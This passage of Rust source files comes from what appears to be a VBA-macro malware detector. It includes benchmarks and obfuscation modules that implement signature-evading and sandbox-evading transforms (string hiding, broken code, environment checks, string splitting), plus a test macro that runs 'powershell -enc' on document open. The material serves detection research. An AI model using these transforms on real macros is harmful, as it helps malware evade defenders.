                    let mut ole = OleBuilder::new();
                    ole.add_stream("WordDocument", b"plain text attachment")
                        .unwrap();
                    ole.build()
                } else {
                    format!("junk payload {u}").into_bytes()
                }
            }
        })
        .collect();
    let mut paths = Vec::with_capacity(DOCS);
    let mut total_bytes = 0u64;
    for i in 0..DOCS {
        let bytes = &contents[i % UNIQUE];
        total_bytes += bytes.len() as u64;
        let path = dir.join(format!("doc{i:04}.bin"));
        std::fs::write(&path, bytes).unwrap();
        paths.push(path);
    }
    (paths, total_bytes)
}

fn best_of<F: FnMut() -> usize>(mut run: F) -> Duration {
    let mut best = Duration::MAX;
    for _ in 0..REPS {
        let start = Instant::now();
        let scanned = run();
        let elapsed = start.elapsed();
        assert_eq!(scanned, DOCS, "every rep must scan the whole batch");
        best = best.min(elapsed);
    }
    best
}

fn main() {
    // `cargo test` executes harness=false bench binaries with `--test`;
    // timing is meaningless there, so bow out like the criterion stub does.
    if std::env::args().any(|a| a == "--test") {
        return;
    }

    let dir = std::env::temp_dir().join(format!("vbadet-bench-cache-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let (paths, total_bytes) = write_corpus(&dir);

    let detector = Detector::train_on_corpus(
        &DetectorConfig::default(),
        &CorpusSpec::paper().scaled(0.002),
    );
    let uncached_policy = ScanPolicy::default();

    // Page-cache warmup so the uncached baseline (measured first) isn't
    // charged for cold reads the cached passes then get for free.
    let warmup = scan_paths_with_policy(&detector, &paths, &uncached_policy);
    assert_eq!(warmup.scanned(), DOCS);

    let uncached =
        best_of(|| scan_paths_with_policy(&detector, &paths, &uncached_policy).scanned());

    // Cold: a fresh cache per rep, so each rep pays UNIQUE full scans
    // plus DOCS-UNIQUE hits — the first-batch experience.
    let cold = best_of(|| {
        let policy = ScanPolicy::default().with_cache(Arc::new(ScanCache::in_memory(1024)));
        scan_paths_with_policy(&detector, &paths, &policy).scanned()
    });

    // Warm: one cache, pre-filled outside the timed region — the steady
    // state of a long-running gateway.
    let cache = Arc::new(ScanCache::in_memory(1024));
    let warm_policy = ScanPolicy::default().with_cache(Arc::clone(&cache));
    assert_eq!(
        scan_paths_with_policy(&detector, &paths, &warm_policy).scanned(),
        DOCS
    );
    let warm = best_of(|| scan_paths_with_policy(&detector, &paths, &warm_policy).scanned());

    // Measured hit rate from a metered warm pass (not assumed from the
    // corpus shape).
    let metered = ScanPolicy::default()
        .with_cache(Arc::clone(&cache))
        .with_metrics(MetricsSink::enabled());
    let report = scan_paths_with_policy(&detector, &paths, &metered);
    assert_eq!(report.scanned(), DOCS);
    let snapshot = report.metrics.expect("metered run must snapshot");
    let hits = snapshot.histograms.get("cache.hits").map_or(0, |h| h.total);
    let misses = snapshot
        .histograms
        .get("cache.misses")
        .map_or(0, |h| h.total);
    let hit_rate = hits as f64 / (hits + misses).max(1) as f64;

    let uncached_dps = DOCS as f64 / uncached.as_secs_f64();
    let cold_dps = DOCS as f64 / cold.as_secs_f64();
    let warm_dps = DOCS as f64 / warm.as_secs_f64();
    let warm_speedup = uncached.as_secs_f64() / warm.as_secs_f64();

    println!(
        "cache: {DOCS} docs ({UNIQUE} unique), {total_bytes} bytes\n\
           uncached  {uncached_dps:>9.1} docs/s  ({uncached:.3?}/batch)\n\
           cold      {cold_dps:>9.1} docs/s  ({cold:.3?}/batch)\n\
           warm      {warm_dps:>9.1} docs/s  ({warm:.3?}/batch)\n\
           speedup   {warm_speedup:>9.2}x warm vs uncached\n\
           hit rate  {:>9.1}% ({hits} hits / {misses} misses)",
        hit_rate * 100.0,
    );

    let results_dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../results");
    std::fs::create_dir_all(&results_dir).unwrap();
    let json = format!(
        "{{\n  \"bench\": \"cache\",\n  \"docs\": {DOCS},\n  \"unique_docs\": {UNIQUE},\n  \
         \"bytes\": {total_bytes},\n  \"reps\": {REPS},\n  \
         \"uncached_secs\": {:.6},\n  \"cold_secs\": {:.6},\n  \"warm_secs\": {:.6},\n  \
         \"uncached_docs_per_sec\": {uncached_dps:.2},\n  \"cold_docs_per_sec\": {cold_dps:.2},\n  \
         \"warm_docs_per_sec\": {warm_dps:.2},\n  \"warm_speedup\": {warm_speedup:.4},\n  \
         \"warm_hit_rate\": {hit_rate:.4}\n}}\n",
        uncached.as_secs_f64(),
        cold.as_secs_f64(),
        warm.as_secs_f64(),
    );
    let out = results_dir.join("BENCH_cache.json");
    std::fs::write(&out, json).unwrap();
    println!("wrote {}", out.display());

    let _ = std::fs::remove_dir_all(&dir);
}
