//! Per-classifier training and prediction cost on a fixed standardized
//! matrix (the cost structure behind Table V's 10-fold CV).

use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;
use vbadet::detector::ClassifierKind;
use vbadet::experiment::ExperimentData;
use vbadet_corpus::CorpusSpec;
use vbadet_ml::StandardScaler;

fn training_set() -> (Vec<Vec<f64>>, Vec<bool>) {
    let data = ExperimentData::from_spec(&CorpusSpec::paper().scaled(0.05));
    let scaler = StandardScaler::fit(&data.v);
    (scaler.transform_all(&data.v), data.labels.clone())
}

fn classifiers(c: &mut Criterion) {
    let (x, y) = training_set();
    let mut group = c.benchmark_group("classifiers");
    group.sample_size(10);
    for kind in ClassifierKind::ALL {
        group.bench_function(format!("train_{}", kind.name()), |b| {
            b.iter(|| {
                let mut model = kind.build(1);
                model.fit(black_box(&x), black_box(&y));
                black_box(model.decision_function(&x[0]))
            })
        });
    }
    // Prediction cost on trained models.
    for kind in ClassifierKind::ALL {
        let mut model = kind.build(1);
        model.fit(&x, &y);
        group.bench_function(format!("predict_{}", kind.name()), |b| {
            b.iter(|| {
                let mut acc = 0.0f64;
                for row in &x {
                    acc += model.decision_function(black_box(row));
                }
                black_box(acc)
            })
        });
    }
    group.finish();
}

criterion_group!(benches, classifiers);
criterion_main!(benches);
