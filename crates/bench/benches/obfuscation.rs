//! Obfuscation and de-obfuscation transform throughput.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use rand::rngs::StdRng;
use rand::SeedableRng;
use std::hint::black_box;
use vbadet_obfuscate::{deobfuscate, Obfuscator, Technique};

fn transforms(c: &mut Criterion) {
    let mut rng = StdRng::seed_from_u64(1);
    let base = vbadet_corpus::templates::benign::generate(&mut rng, 3000);

    let mut group = c.benchmark_group("obfuscate");
    group.throughput(Throughput::Bytes(base.len() as u64));
    for (name, technique) in [
        ("o1_random", Technique::Random),
        ("o2_split", Technique::Split),
        ("o3_encoding", Technique::Encoding),
        ("o4_logic", Technique::LogicWithIntensity(30)),
    ] {
        group.bench_function(name, |b| {
            b.iter(|| {
                let mut rng = StdRng::seed_from_u64(7);
                black_box(
                    Obfuscator::new()
                        .with(technique)
                        .apply(black_box(&base), &mut rng),
                )
            })
        });
    }
    group.finish();

    // De-obfuscation over a fully obfuscated module.
    let mut rng = StdRng::seed_from_u64(3);
    let obfuscated = Obfuscator::new()
        .with(Technique::Split)
        .with(Technique::Encoding)
        .with(Technique::LogicWithIntensity(40))
        .apply(&base, &mut rng)
        .source;
    let mut group = c.benchmark_group("deobfuscate");
    group.throughput(Throughput::Bytes(obfuscated.len() as u64));
    group.bench_function("full_pipeline", |b| {
        b.iter(|| black_box(deobfuscate(black_box(&obfuscated))))
    });
    group.finish();
}

criterion_group!(benches, transforms);
criterion_main!(benches);
