//! Resident-service round-trip throughput, recorded to
//! `results/BENCH_serve.json`.
//!
//! Like `scan_parallel`, this rolls its own timing: the unit of interest
//! is a full client round trip through the live service — connect once,
//! then newline-delimited request/response over a loopback TCP socket —
//! because that is what a caller of `vbadet serve` actually pays. Three
//! request shapes are measured separately:
//!
//! - `scan_rps`: text-verb `scan <path>` of an on-disk macro document,
//!   the steady-state triage mode (admission queue + worker pool + full
//!   parse/extract/score pipeline per request),
//! - `inline_rps`: JSON requests carrying the document as `bytes_hex`,
//!   which adds request parsing and hex decode to the same pipeline,
//! - `health_rps`: the `health` probe, answered on the connection thread
//!   without touching the queue — its throughput is the protocol floor.
//!
//! Each figure is best-of-[`REPS`] over a fixed wave of requests from
//! [`CLIENTS`] concurrent connections against one long-lived server, so
//! bind/spawn cost stays out of the steady-state numbers. The keys are
//! new relative to `results/BENCH_baseline.json`, so the CI regression
//! gate records them without gating until a refreshed baseline picks
//! them up.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::path::PathBuf;
use std::thread;
use std::time::{Duration, Instant};

use vbadet::scan::interrupt;
use vbadet::{serve, Detector, DetectorConfig, Listener, ScanPolicy, ServeConfig};
use vbadet_corpus::CorpusSpec;
use vbadet_ovba::VbaProjectBuilder;

const REPS: usize = 3;
const CLIENTS: usize = 4;
const REQUESTS_PER_CLIENT: usize = 100;
const WAVE: usize = CLIENTS * REQUESTS_PER_CLIENT;

fn macro_project() -> Vec<u8> {
    let mut body = String::new();
    for line in 0..150 {
        body.push_str(&format!(
            "    v{line} = v{} + {}\r\n",
            line.max(1) - 1,
            line + 2
        ));
    }
    let mut b = VbaProjectBuilder::new("P");
    b.add_module("Module1", &format!("Sub Work()\r\n{body}End Sub\r\n"));
    b.build().unwrap()
}

fn hex(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len() * 2);
    for b in bytes {
        out.push_str(&format!("{b:02x}"));
    }
    out
}

/// One client connection driving `REQUESTS_PER_CLIENT` strictly
/// sequential round trips of `line`; every reply must contain `expect`.
fn drive(addr: std::net::SocketAddr, line: &str, expect: &str) {
    let stream = TcpStream::connect(addr).unwrap();
    stream.set_nodelay(true).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    let mut writer = stream.try_clone().unwrap();
    let mut reader = BufReader::new(stream);
    let framed = format!("{line}\n");
    let mut reply = String::new();
    for _ in 0..REQUESTS_PER_CLIENT {
        writer.write_all(framed.as_bytes()).unwrap();
        reply.clear();
        reader.read_line(&mut reply).unwrap();
        assert!(
            reply.contains(expect),
            "serve bench: unexpected reply {reply:?} (wanted {expect:?})"
        );
    }
}

/// Best-of-`REPS` wall clock for one wave of `WAVE` round trips from
/// `CLIENTS` concurrent connections, as requests/sec.
fn best_wave_rps(addr: std::net::SocketAddr, line: &str, expect: &str) -> f64 {
    let mut best = Duration::MAX;
    for _ in 0..REPS {
        let start = Instant::now();
        thread::scope(|s| {
            for _ in 0..CLIENTS {
                s.spawn(|| drive(addr, line, expect));
            }
        });
        best = best.min(start.elapsed());
    }
    WAVE as f64 / best.as_secs_f64()
}

fn main() {
    if std::env::args().any(|a| a == "--test") {
        return;
    }

    let cores = std::thread::available_parallelism().map_or(1, |n| n.get());
    let workers = cores.clamp(2, 8);

    let dir = std::env::temp_dir().join(format!("vbadet-bench-serve-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let doc = macro_project();
    let doc_path = dir.join("doc.bin");
    std::fs::write(&doc_path, &doc).unwrap();

    let detector = Detector::train_on_corpus(
        &DetectorConfig::default(),
        &CorpusSpec::paper().scaled(0.002),
    );

    let listener = Listener::bind_tcp("127.0.0.1:0").unwrap();
    let addr = listener.tcp_addr().unwrap();
    let mut config = ServeConfig::new(ScanPolicy::default());
    config.workers = workers;
    // Deep enough that the wave measures scan throughput, not shedding.
    config.queue_depth = WAVE;

    interrupt::reset();
    let scan_line = format!("scan {}", doc_path.display());
    let inline_line = format!("{{\"op\":\"scan\",\"bytes_hex\":\"{}\"}}", hex(&doc));

    // Latch the drain even if a wave panics; otherwise the scope join
    // waits forever on a server nobody told to exit and the real panic
    // is masked by a hang.
    struct DrainOnDrop;
    impl Drop for DrainOnDrop {
        fn drop(&mut self) {
            interrupt::request_drain();
        }
    }
    let (scan_rps, inline_rps, health_rps, summary) = thread::scope(|s| {
        let server = s.spawn(|| serve(&listener, &detector, &config, None));
        let drain = DrainOnDrop;
        drive(addr, "ready", "\"ok\""); // server is up once this returns

        let scan_rps = best_wave_rps(addr, &scan_line, "\"verdicts\"");
        let inline_rps = best_wave_rps(addr, &inline_line, "\"verdicts\"");
        let health_rps = best_wave_rps(addr, "health", "\"ok\"");

        drop(drain);
        let summary = server.join().unwrap();
        (scan_rps, inline_rps, health_rps, summary)
    });

    // Only the two scan-shaped waves are admitted; health/ready answer on
    // the connection thread without touching the queue.
    assert_eq!(
        summary.accepted,
        (2 * REPS * WAVE) as u64,
        "every scan round trip must have been admitted exactly once"
    );
    assert_eq!(summary.shed, 0, "the bench waves must not shed");
    assert!(summary.drained, "the server must exit via drain");

    println!(
        "serve: {CLIENTS} clients x {REQUESTS_PER_CLIENT} reqs, {workers} workers, {cores} core(s)\n\
           scan    {scan_rps:>8.1} req/s\n\
           inline  {inline_rps:>8.1} req/s\n\
           health  {health_rps:>8.1} req/s",
    );

    let results_dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../results");
    std::fs::create_dir_all(&results_dir).unwrap();
    let json = format!(
        "{{\n  \"bench\": \"serve\",\n  \"clients\": {CLIENTS},\n  \
         \"requests_per_client\": {REQUESTS_PER_CLIENT},\n  \"workers\": {workers},\n  \
         \"cores\": {cores},\n  \"reps\": {REPS},\n  \"scan_rps\": {scan_rps:.2},\n  \
         \"inline_rps\": {inline_rps:.2},\n  \"health_rps\": {health_rps:.2}\n}}\n"
    );
    let out = results_dir.join("BENCH_serve.json");
    std::fs::write(&out, json).unwrap();
    println!("wrote {}", out.display());

    let _ = std::fs::remove_dir_all(&dir);
}
