//! MS-OVBA CompressedContainer codec throughput (the per-module cost of
//! olevba-style extraction).

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use std::hint::black_box;
use vbadet_ovba::{compress, decompress};

fn codec(c: &mut Criterion) {
    let module = "Attribute VB_Name = \"Module1\"\r\n".to_string()
        + &"Sub Step()\r\n    Dim counter As Long\r\n    counter = counter + 1\r\nEnd Sub\r\n"
            .repeat(600);
    let data = module.as_bytes();

    let mut group = c.benchmark_group("ovba");
    group.throughput(Throughput::Bytes(data.len() as u64));
    group.bench_function("compress_module", |b| {
        b.iter(|| black_box(compress(black_box(data))))
    });
    let packed = compress(data);
    group.bench_function("decompress_module", |b| {
        b.iter(|| black_box(decompress(black_box(&packed)).unwrap()))
    });
    group.finish();
}

criterion_group!(benches, codec);
criterion_main!(benches);
