//! Container-layer throughput: OLE compound-file write/parse, ZIP
//! write/parse, and raw DEFLATE in both directions. These quantify the
//! "lightweight static inspection" premise (§II.B) for the extraction side
//! of the pipeline.

use criterion::{criterion_group, criterion_main, BatchSize, Criterion, Throughput};
use std::hint::black_box;
use vbadet_ole::{OleBuilder, OleFile};
use vbadet_zip::{deflate, inflate, BlockStyle, CompressionMethod, ZipArchive, ZipWriter};

fn sample_text(len: usize) -> Vec<u8> {
    "Sub Report()\r\n    total = total + Cells(row, 3).Value\r\nEnd Sub\r\n"
        .bytes()
        .cycle()
        .take(len)
        .collect()
}

fn ole_roundtrip(c: &mut Criterion) {
    let mut group = c.benchmark_group("ole");
    let payload = sample_text(64 * 1024);
    group.throughput(Throughput::Bytes(payload.len() as u64));
    group.bench_function("write_64k", |b| {
        b.iter(|| {
            let mut builder = OleBuilder::new();
            builder.add_stream("Macros/VBA/Module1", &payload).unwrap();
            builder
                .add_stream("WordDocument", &payload[..8192])
                .unwrap();
            black_box(builder.build())
        })
    });
    let bytes = {
        let mut builder = OleBuilder::new();
        builder.add_stream("Macros/VBA/Module1", &payload).unwrap();
        builder
            .add_stream("WordDocument", &payload[..8192])
            .unwrap();
        builder.build()
    };
    group.throughput(Throughput::Bytes(bytes.len() as u64));
    group.bench_function("parse_and_read", |b| {
        b.iter(|| {
            let ole = OleFile::parse(black_box(&bytes)).unwrap();
            black_box(ole.open_stream("Macros/VBA/Module1").unwrap())
        })
    });
    group.finish();
}

fn zip_roundtrip(c: &mut Criterion) {
    let mut group = c.benchmark_group("zip");
    let payload = sample_text(256 * 1024);
    group.throughput(Throughput::Bytes(payload.len() as u64));
    group.bench_function("write_deflate_256k", |b| {
        b.iter(|| {
            let mut w = ZipWriter::new();
            w.add_file("word/vbaProject.bin", &payload, CompressionMethod::Deflate)
                .unwrap();
            black_box(w.finish())
        })
    });
    let bytes = {
        let mut w = ZipWriter::new();
        w.add_file("word/vbaProject.bin", &payload, CompressionMethod::Deflate)
            .unwrap();
        w.finish()
    };
    group.bench_function("parse_and_extract", |b| {
        b.iter(|| {
            let a = ZipArchive::parse(black_box(&bytes)).unwrap();
            black_box(a.read_file("word/vbaProject.bin").unwrap())
        })
    });
    group.finish();
}

fn deflate_codec(c: &mut Criterion) {
    let mut group = c.benchmark_group("deflate");
    let payload = sample_text(256 * 1024);
    group.throughput(Throughput::Bytes(payload.len() as u64));
    for style in [BlockStyle::Fixed, BlockStyle::Dynamic] {
        group.bench_function(format!("compress_{style:?}"), |b| {
            b.iter(|| black_box(deflate(black_box(&payload), style)))
        });
    }
    let packed = deflate(&payload, BlockStyle::Dynamic);
    group.bench_function("inflate", |b| {
        b.iter_batched(
            || packed.clone(),
            |p| black_box(inflate(&p).unwrap()),
            BatchSize::SmallInput,
        )
    });
    group.finish();
}

criterion_group!(benches, ole_roundtrip, zip_roundtrip, deflate_codec);
criterion_main!(benches);
