//! §VI.B anti-analysis techniques.
//!
//! These are *not* O1–O4 obfuscation: they have a narrower scope and target
//! specific analysis methods. The paper's case studies list three; each is
//! implemented here as a transform so the corpus can include macros carrying
//! them, and so tests can document their effect on static extraction.

use rand::Rng;
use std::collections::HashSet;
use vbadet_vba::{tokenize, TokenKind};

/// Result of [`hide_string_data`]: the rewritten source plus the values that
/// were moved out of the macro text (they would live in document properties
/// / form control captions, invisible to source-only analysis).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HiddenStrings {
    /// Transformed source.
    pub source: String,
    /// `(variable name, original value)` for each hidden literal.
    pub hidden: Vec<(String, String)>,
}

/// Technique 1 — *Hiding string data* (Figure 8a): replaces string literals
/// with reads from `ActiveDocument.Variables("…").Value()`. The literal
/// value disappears from the macro source entirely.
pub fn hide_string_data<R: Rng + ?Sized>(source: &str, rng: &mut R) -> HiddenStrings {
    let tokens = tokenize(source);
    let attr = crate::split::attribute_line_spans(source);
    let mut taken: HashSet<String> = HashSet::new();
    let mut hidden = Vec::new();
    let mut edits: Vec<(usize, usize, String)> = Vec::new();
    for t in &tokens {
        let TokenKind::StringLit(value) = &t.kind else {
            continue;
        };
        if value.len() < 4 || attr.iter().any(|&(s, e)| t.start >= s && t.end <= e) {
            continue;
        }
        let key = crate::names::random_identifier(rng, &mut taken);
        edits.push((
            t.start,
            t.end,
            format!("ActiveDocument.Variables(\"{key}\").Value()"),
        ));
        hidden.push((key, value.clone()));
    }
    let mut out = source.to_string();
    for (start, end, replacement) in edits.into_iter().rev() {
        out.replace_range(start..end, &replacement);
    }
    HiddenStrings {
        source: out,
        hidden,
    }
}

/// Technique 2 — *Inserting broken code* (Figure 8b): appends statements
/// referencing nonexistent objects after an `Exit Sub`, so the code never
/// runs but chokes naive parsers.
pub fn insert_broken_code<R: Rng + ?Sized>(source: &str, rng: &mut R) -> String {
    let mut out = String::with_capacity(source.len() + 256);
    let mut taken: HashSet<String> = HashSet::new();
    for line in source.split_inclusive('\n') {
        let lower = line.trim_start().to_ascii_lowercase();
        if lower.starts_with("end sub") || lower.starts_with("end function") {
            let obj = crate::names::random_identifier(rng, &mut taken);
            out.push_str("    Exit Sub\r\n");
            out.push_str(&format!("    {obj}.Select\r\n"));
            out.push_str(&format!(
                "    Colu.mns(\"{}:{}\").ColumnWidth = {}\r\n",
                (b'A' + rng.gen_range(0u8..26)) as char,
                (b'A' + rng.gen_range(0u8..26)) as char,
                rng.gen_range(5..40),
            ));
            out.push_str(&format!(
                "    Sel.ection.RowHeight = {}\r\n",
                rng.gen_range(10..30)
            ));
        }
        out.push_str(line);
    }
    out
}

/// Technique 3 — *Changing the flow*: wraps each procedure body in an
/// environment check (e.g. recent-file count, a sandbox tell) so dynamic
/// analyzers that fail the check never observe the behaviour.
pub fn change_flow<R: Rng + ?Sized>(source: &str, rng: &mut R) -> String {
    let mut out = String::with_capacity(source.len() + 128);
    let mut inside = false;
    for line in source.split_inclusive('\n') {
        let lower = line.trim_start().to_ascii_lowercase();
        let opens = (lower.starts_with("sub ")
            || lower.starts_with("public sub ")
            || lower.starts_with("private sub "))
            && !lower.starts_with("end");
        let closes = lower.starts_with("end sub");
        if opens && !inside {
            inside = true;
            out.push_str(line);
            let threshold = rng.gen_range(2..6);
            out.push_str(&format!(
                "    If RecentFiles.Count < {threshold} Then Exit Sub\r\n"
            ));
            continue;
        }
        if closes {
            inside = false;
        }
        out.push_str(line);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    const SRC: &str = "Sub Document_Open()\r\n\
        cmd = \"powershell -enc AAAA\"\r\n\
        Shell cmd, 0\r\n\
        End Sub\r\n";

    #[test]
    fn hidden_strings_leave_no_trace_in_source() {
        let mut rng = StdRng::seed_from_u64(1);
        let result = hide_string_data(SRC, &mut rng);
        assert!(!result.source.contains("powershell"));
        assert_eq!(result.hidden.len(), 1);
        assert_eq!(result.hidden[0].1, "powershell -enc AAAA");
        assert!(result.source.contains("ActiveDocument.Variables"));
        // The stored key is referenced in the source.
        assert!(result.source.contains(&result.hidden[0].0));
    }

    #[test]
    fn broken_code_is_inserted_after_exit() {
        let mut rng = StdRng::seed_from_u64(2);
        let out = insert_broken_code(SRC, &mut rng);
        let exit_pos = out.find("Exit Sub").unwrap();
        let end_pos = out.find("End Sub").unwrap();
        assert!(exit_pos < end_pos);
        assert!(out.contains("Colu.mns("));
        // The lexer must survive the broken code.
        let _ = vbadet_vba::tokenize(&out);
    }

    #[test]
    fn flow_change_guards_procedure_entry() {
        let mut rng = StdRng::seed_from_u64(3);
        let out = change_flow(SRC, &mut rng);
        let guard_pos = out.find("RecentFiles.Count").unwrap();
        let body_pos = out.find("cmd = ").unwrap();
        assert!(guard_pos < body_pos, "guard must precede the body");
        assert!(out.contains("Then Exit Sub"));
    }

    #[test]
    fn transforms_compose() {
        let mut rng = StdRng::seed_from_u64(4);
        let hidden = hide_string_data(SRC, &mut rng);
        let broken = insert_broken_code(&hidden.source, &mut rng);
        let flowed = change_flow(&broken, &mut rng);
        assert!(flowed.contains("ActiveDocument.Variables"));
        assert!(flowed.contains("Exit Sub"));
        assert!(flowed.contains("RecentFiles.Count"));
    }
}
