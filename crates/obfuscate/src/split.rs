//! O2 — Split obfuscation: break string literals into concatenated pieces
//! (paper §III.B.2, Figure 3).
//!
//! `"WScript.Shell"` becomes `"WScr" & "ipt.S" & "hell"`, defeating
//! signature matching while preserving the runtime value. Optionally, some
//! pieces are hoisted into module-level `Const` declarations, as observed in
//! the paper's Figure 3.

use rand::Rng;
use std::collections::HashSet;
use vbadet_vba::{tokenize, TokenKind};

/// Minimum literal length worth splitting.
const MIN_SPLIT_LEN: usize = 4;

/// Applies O2 to `source`.
///
/// Every string literal of at least 4 characters (outside `Attribute`
/// lines) is split into 2–5 pieces joined with `&` or `+`; with probability
/// ~1/3 one piece of each split is hoisted to a module-level constant.
pub fn apply<R: Rng + ?Sized>(source: &str, rng: &mut R) -> String {
    apply_limited(source, usize::MAX, rng)
}

/// Applies O2 to at most `limit` eligible literals (the longest ones first
/// — attackers split the signature-bearing strings, not every label).
pub fn apply_limited<R: Rng + ?Sized>(source: &str, limit: usize, rng: &mut R) -> String {
    let tokens = tokenize(source);
    let attribute_lines = attribute_line_spans(source);
    let mut consts: Vec<(String, String)> = Vec::new();
    let mut taken: HashSet<String> = HashSet::new();

    // Rank eligible literals by length so a small `limit` hits the most
    // signature-like strings.
    let mut eligible: Vec<&vbadet_vba::Token> = tokens
        .iter()
        .filter(|t| {
            if let TokenKind::StringLit(value) = &t.kind {
                value.chars().count() >= MIN_SPLIT_LEN
                    && !attribute_lines
                        .iter()
                        .any(|&(s, e)| t.start >= s && t.end <= e)
            } else {
                false
            }
        })
        .collect();
    eligible.sort_by_key(|t| std::cmp::Reverse(t.end - t.start));
    eligible.truncate(limit);
    eligible.sort_by_key(|t| t.start);

    let mut edits: Vec<(usize, usize, String)> = Vec::new();
    for t in eligible {
        let TokenKind::StringLit(value) = &t.kind else {
            continue;
        };
        let pieces = split_pieces(value, rng);
        let hoist = rng.gen_ratio(1, 3) && pieces.len() >= 2;
        let hoist_index = if hoist {
            rng.gen_range(0..pieces.len())
        } else {
            usize::MAX
        };
        let mut expr = String::new();
        for (i, piece) in pieces.iter().enumerate() {
            if i > 0 {
                expr.push_str(if rng.gen_bool(0.5) { " & " } else { " + " });
            }
            if i == hoist_index {
                let name = crate::names::random_identifier(rng, &mut taken);
                consts.push((name.clone(), piece.clone()));
                expr.push_str(&name);
            } else {
                expr.push('"');
                expr.push_str(&piece.replace('"', "\"\""));
                expr.push('"');
            }
        }
        edits.push((t.start, t.end, expr));
    }

    let mut out = source.to_string();
    for (start, end, replacement) in edits.into_iter().rev() {
        out.replace_range(start..end, &replacement);
    }

    if !consts.is_empty() {
        let mut header = String::new();
        for (name, value) in &consts {
            header.push_str(&format!(
                "Public Const {name} = \"{}\"\r\n",
                value.replace('"', "\"\"")
            ));
        }
        out = insert_after_attributes(&out, &header);
    }
    out
}

/// Splits `value` into 2–5 non-empty pieces at random char boundaries.
fn split_pieces<R: Rng + ?Sized>(value: &str, rng: &mut R) -> Vec<String> {
    let chars: Vec<char> = value.chars().collect();
    let max_parts = chars.len().clamp(2, 5);
    let parts = rng.gen_range(2..=max_parts);
    // Choose parts-1 distinct cut points in 1..len.
    let mut cuts: Vec<usize> = Vec::new();
    while cuts.len() < parts - 1 {
        let cut = rng.gen_range(1..chars.len());
        if !cuts.contains(&cut) {
            cuts.push(cut);
        }
    }
    cuts.sort_unstable();
    let mut pieces = Vec::with_capacity(parts);
    let mut prev = 0usize;
    for cut in cuts.into_iter().chain(std::iter::once(chars.len())) {
        pieces.push(chars[prev..cut].iter().collect());
        prev = cut;
    }
    pieces
}

/// Byte spans of `Attribute …` lines (these must keep literal strings: they
/// are metadata, not code).
pub(crate) fn attribute_line_spans(source: &str) -> Vec<(usize, usize)> {
    let mut spans = Vec::new();
    let mut offset = 0usize;
    for line in source.split_inclusive('\n') {
        if line
            .trim_start()
            .to_ascii_lowercase()
            .starts_with("attribute ")
        {
            spans.push((offset, offset + line.len()));
        }
        offset += line.len();
    }
    spans
}

/// Inserts `header` after any leading `Attribute`/`Option` lines.
pub(crate) fn insert_after_attributes(source: &str, header: &str) -> String {
    let mut insert_at = 0usize;
    let mut offset = 0usize;
    for line in source.split_inclusive('\n') {
        let trimmed = line.trim_start().to_ascii_lowercase();
        if trimmed.starts_with("attribute ") || trimmed.starts_with("option ") {
            insert_at = offset + line.len();
        } else if !trimmed.is_empty() {
            break;
        }
        offset += line.len();
    }
    let mut out = String::with_capacity(source.len() + header.len());
    out.push_str(&source[..insert_at]);
    out.push_str(header);
    out.push_str(&source[insert_at..]);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::recover;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    const SRC: &str = "Sub Go()\r\n\
        Set sh = CreateObject(\"WScript.Shell\")\r\n\
        sh.Environment(\"Process\")\r\n\
        End Sub\r\n";

    #[test]
    fn signature_strings_disappear() {
        let mut rng = StdRng::seed_from_u64(1);
        let out = apply(SRC, &mut rng);
        assert!(!out.contains("\"WScript.Shell\""));
        assert!(!out.contains("\"Process\""));
        // Join operators appear.
        assert!(out.contains(" & ") || out.contains(" + "));
    }

    #[test]
    fn values_are_recoverable() {
        for seed in 0..20 {
            let mut rng = StdRng::seed_from_u64(seed);
            let out = apply(SRC, &mut rng);
            let recovered = recover::recover_strings(&out);
            assert!(
                recovered.iter().any(|s| s == "WScript.Shell"),
                "seed {seed}: {recovered:?}\n{out}"
            );
            assert!(recovered.iter().any(|s| s == "Process"), "seed {seed}");
        }
    }

    #[test]
    fn short_strings_left_alone() {
        let src = "x = \"ab\"\r\n";
        let mut rng = StdRng::seed_from_u64(3);
        assert_eq!(apply(src, &mut rng), src);
    }

    #[test]
    fn attribute_lines_untouched() {
        let src = "Attribute VB_Name = \"ThisDocument\"\r\nx = \"hello world\"\r\n";
        let mut rng = StdRng::seed_from_u64(4);
        let out = apply(src, &mut rng);
        assert!(out.contains("Attribute VB_Name = \"ThisDocument\""));
        assert!(!out.contains("\"hello world\""));
    }

    #[test]
    fn embedded_quotes_survive_splitting() {
        let src = "x = \"say \"\"hi\"\" now\"\r\n";
        for seed in 0..10 {
            let mut rng = StdRng::seed_from_u64(seed);
            let out = apply(src, &mut rng);
            let recovered = recover::recover_strings(&out);
            assert!(
                recovered.iter().any(|s| s == "say \"hi\" now"),
                "seed {seed}: {recovered:?}"
            );
        }
    }

    #[test]
    fn hoisted_constants_are_declared_at_top() {
        // Find a seed that hoists.
        for seed in 0..50 {
            let mut rng = StdRng::seed_from_u64(seed);
            let out = apply(SRC, &mut rng);
            if out.contains("Public Const ") {
                let const_pos = out.find("Public Const ").unwrap();
                let sub_pos = out.find("Sub Go").unwrap();
                assert!(const_pos < sub_pos, "consts precede code");
                return;
            }
        }
        panic!("no seed hoisted a constant in 50 tries");
    }

    #[test]
    fn split_pieces_partition_the_string() {
        let mut rng = StdRng::seed_from_u64(11);
        for value in ["abcd", "longer string with spaces", "aaaa bbbb cccc"] {
            for _ in 0..20 {
                let pieces = split_pieces(value, &mut rng);
                assert!(pieces.len() >= 2);
                assert!(pieces.iter().all(|p| !p.is_empty()));
                assert_eq!(pieces.concat(), value);
            }
        }
    }
}
