//! O3 — Encoding obfuscation: replace string literals with reversible
//! decoding expressions (paper §III.B.3, Figure 4).
//!
//! Three schemes, matching the paper's taxonomy:
